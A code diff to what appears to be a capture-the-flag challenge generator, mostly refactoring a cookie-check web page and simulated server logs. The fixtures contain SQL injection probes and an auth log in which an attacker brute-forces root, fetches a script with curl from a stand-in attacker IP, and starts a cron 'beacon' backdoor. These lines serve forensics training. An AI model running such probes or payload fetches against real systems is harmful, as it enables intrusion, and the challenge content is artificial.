@@ -38,6 +38,10 @@ export function web101Page(flag: string): string {
 /** web-102: the admin check compares the cookie with a hex-encoded secret. */
 export function cookiePage(flag: string): string {
   const hex = Buffer.from(flag, 'utf8').toString('hex').match(/../g)?.join(' ') ?? '';
+  // One line of the page's script, as the player reads it.
+  const showSecret =
+    "document.getElementById('pesan').textContent = " +
+    "rahasia.split(' ').map((h) => String.fromCharCode(parseInt(h, 16))).join('');";
   return `<!doctype html>
 <html lang="id">
 <head><meta charset="utf-8"><title>Dasbor</title></head>
@@ -53,7 +57,7 @@ export function cookiePage(flag: string): string {
     if (bacaPeran() === 'admin') {
       // Hanya admin yang boleh melihat ini (heksadesimal, dipisah spasi).
       const rahasia = '${hex}';
-      document.getElementById('pesan').textContent = rahasia.split(' ').map((h) => String.fromCharCode(parseInt(h, 16))).join('');
+      ${showSecret}
     }
   </script>
 </body>
@@ -67,9 +71,9 @@ export function accessLog(attacker: string): string {
   const visitors = ['192.0.2.10', '192.0.2.24', '198.51.100.7', '192.0.2.88'];
   const pages = ['/', '/produk', '/produk/12', '/kontak', '/tentang', '/keranjang'];
   const agents = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'Mozilla/5.0 (X11; Linux x86_64)'];
+  const twoDigits = (value: number) => String(value).padStart(2, '0');
   const stamp = (minute: number) =>
-    `[01/Nov/2026:09:${String(Math.floor(minute / 60) % 60).padStart(2, '0')}:${String(minute % 60).padStart(2, '0')} ` +
-    `+0700]`;
+    `[01/Nov/2026:09:${twoDigits(Math.floor(minute / 60) % 60)}:${twoDigits(minute % 60)} +0700]`;
   const probes = [
     "/produk?id=12'",
     '/produk?id=12%20OR%201=1--',
@@ -91,15 +95,18 @@ export function accessLog(attacker: string): string {
 }
 
 /** log-pribadi (per user): the downloader's own flag, base64-encoded, in a backdoor's beacon line. */
-export const PERSONAL_AUTH_LOG = `Nov  1 02:11:04 web01 sshd[1201]: Accepted publickey for deploy from 192.0.2.10 port 50122 ssh2
-Nov  1 02:14:37 web01 sshd[1240]: Invalid user backup from 198.51.100.23 port 41890
-Nov  1 02:14:39 web01 sshd[1240]: Failed password for invalid user backup from 198.51.100.23 port 41890 ssh2
-Nov  1 02:14:45 web01 sshd[1244]: Failed password for root from 198.51.100.23 port 41902 ssh2
-Nov  1 02:15:02 web01 sshd[1251]: Accepted password for root from 198.51.100.23 port 41930 ssh2
-Nov  1 02:15:09 web01 sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.23/b.sh
-Nov  1 02:15:11 web01 cron[1260]: (root) CMD (/tmp/.b/beacon --id {{FLAG_BASE64}})
-Nov  1 02:20:00 web01 sshd[1301]: Accepted publickey for deploy from 192.0.2.10 port 50188 ssh2
-`;
+export const PERSONAL_AUTH_LOG = [
+  'Nov  1 02:11:04 web01 sshd[1201]: Accepted publickey for deploy from 192.0.2.10 port 50122 ssh2',
+  'Nov  1 02:14:37 web01 sshd[1240]: Invalid user backup from 198.51.100.23 port 41890',
+  'Nov  1 02:14:39 web01 sshd[1240]: Failed password for invalid user backup from 198.51.100.23 port 41890 ssh2',
+  'Nov  1 02:14:45 web01 sshd[1244]: Failed password for root from 198.51.100.23 port 41902 ssh2',
+  'Nov  1 02:15:02 web01 sshd[1251]: Accepted password for root from 198.51.100.23 port 41930 ssh2',
+  'Nov  1 02:15:09 web01 sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; ' +
+    'COMMAND=/usr/bin/curl -s http://198.51.100.23/b.sh',
+  'Nov  1 02:15:11 web01 cron[1260]: (root) CMD (/tmp/.b/beacon --id {{FLAG_BASE64}})',
+  'Nov  1 02:20:00 web01 sshd[1301]: Accepted publickey for deploy from 192.0.2.10 port 50188 ssh2',
+  '',
+].join('\n');
 
 /** port-tersembunyi: SSH moved to a high port. */
 export const NMAP_SCAN = `Starting Nmap 7.94 ( https://nmap.org ) at 2026-11-01 09:00 WIB
